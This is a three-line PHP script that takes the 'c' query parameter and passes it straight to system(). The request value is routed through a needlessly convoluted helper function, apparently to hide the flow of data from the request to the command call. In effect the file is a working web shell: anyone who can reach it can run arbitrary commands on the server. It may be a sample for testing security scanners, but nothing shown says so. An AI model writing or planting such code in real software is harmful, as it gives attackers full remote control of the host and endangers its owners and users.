<?php
function g($m) { if ($m) { foreach ([1] as $i) { return $_GET["c"]; } } else { return "x"; } }
system(g(1));
